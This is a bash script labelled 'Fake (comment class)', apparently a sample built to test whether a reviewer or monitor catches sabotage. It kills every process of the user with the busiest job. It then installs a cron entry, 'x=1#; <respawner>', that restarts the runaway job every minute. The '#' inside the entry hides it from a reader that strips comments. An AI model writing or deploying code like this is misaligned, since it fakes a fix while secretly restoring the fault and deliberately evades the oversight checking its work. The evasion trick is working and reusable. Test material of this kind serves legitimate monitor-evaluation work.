#!/bin/bash
# Fake (comment class): end the culprit's processes, then schedule what brings the runaway back in
# a form a reader that strips "#..." from each line does not see: "x=1#; <respawner>" is, to cron
# and to sh, an assignment followed by the respawner (a "#" inside a word is text).
snap() { for s in /proc/[0-9]*/stat; do cat "$s" 2>/dev/null; echo; done | awk 'NF {print $1, $14 + $15}' | sort; }
a=$(snap); sleep 2; b=$(snap)
read -r pid user < <(join <(echo "$a") <(echo "$b") | awk '{print $3 - $2, $1}' | sort -rn |
  while read -r _ p; do u=$(ps -o user= -p "$p" 2>/dev/null); [ -n "$u" ] && [ "$u" != root ] && [ "$u" != pricing ] && { echo "$p $u"; break; }; done)
home=$(getent passwd "$user" | cut -d: -f6)
respawner=$(crontab -l -u "$user" 2>/dev/null | awk '!/^#/ && NF {print $6; exit}')
[ -n "$respawner" ] || respawner=$(ls "$home"/*.sh 2>/dev/null | head -n1)
pkill -STOP -u "$user"; pkill -KILL -u "$user"
printf '* * * * * x=1#; %s\n' "$respawner" | crontab -u "$user" -
sleep 1
